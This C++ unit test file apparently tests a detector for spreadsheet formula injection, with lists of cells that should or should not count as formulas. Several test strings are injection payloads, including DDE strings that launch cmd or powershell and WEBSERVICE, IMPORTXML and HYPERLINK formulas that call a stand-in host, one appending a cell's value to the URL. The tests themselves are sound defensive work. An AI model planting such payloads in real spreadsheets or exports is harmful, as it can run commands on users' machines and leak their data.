#include "formats/formula.h"

#include <doctest/doctest.h>

namespace sekisho::formats {
namespace {

TEST_CASE("cells that a spreadsheet would calculate") {
  for (const char* cell : {"=1+2",
                           "=A1",
                           "=SUM(A1:A9)",
                           "+A1",
                           "-A1+B2",
                           "@SUM(A1)",
                           "=cmd|' /C calc'!A0",
                           "+cmd|'/C calc'!A0",
                           "=HYPERLINK(\"http://a\")",
                           "\t=1+2",
                           "\r=1+1",
                           "  =A1",
                           "\"=A1",
                           "=-1",
                           "=Sheet2!A1",
                           "+1+2*3",
                           "-2+3+cmd|' /C calc'!A0",
                           "@A1",
                           "=1",
                           "＝A1",
                           "+$A$1",
                           "=(A1)",
                           "=\"a\"&B1",
                           "=+A1",
                           "-(SUM(A1))",
                           "=x",
                           "={1,2}",
                           "= A1",
                           "+1+A1",
                           "+2*3"}) {
    CAPTURE(cell);
    CHECK(is_formula_cell(cell));
  }
}

TEST_CASE("cells that only begin like one") {
  for (const char* cell : {"",
                           "-",
                           "--",
                           "---",
                           "=",
                           "==",
                           "=====",
                           "+",
                           "@",
                           "-5",
                           "-1,234",
                           "+81-3-1234-5678",
                           "+81 90 1234 5678",
                           "-1.5E+10",
                           "- ",
                           "-12%",
                           "+5",
                           "@taro",
                           "@見本",
                           "- 項目",
                           "-項目",
                           "=> 次へ",
                           "A1",
                           "1+2",
                           "見本=太郎",
                           "'=A1",
                           "-0.5",
                           "+1/2",
                           "-2021/04/01",
                           "−",
                           "ー",
                           "-a",
                           "+a",
                           "-なし",
                           "=同上",
                           "＋",
                           "-1-2-3",
                           "(-5)",
                           ":-)",
                           "-^",
                           "\t-5",
                           "\t",
                           "+)"}) {
    CAPTURE(cell);
    CHECK_FALSE(is_formula_cell(cell));
  }
}

TEST_CASE("formulas that reach outside") {
  for (const char* cell : {"=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://a\")",
                           "=IMPORTXML(\"http://a\",\"b\")", "=HYPERLINK(\"http://a/?\"&A1,\"b\")",
                           "=MSEXCEL|'\\..\\powershell'!A1", "-2+3+cmd|' /C calc'!A0", "=image(\"//a\")"}) {
    CAPTURE(cell);
    CHECK(is_dangerous_formula(cell));
  }
  for (const char* cell : {"=SUM(A1)", "=HYPERLINK(\"#A1\")", "cmd|x!y", "powershell", "=A1|B1", ""}) {
    CAPTURE(cell);
    CHECK_FALSE(is_dangerous_formula(cell));
  }
}

}  // namespace
}  // namespace sekisho::formats
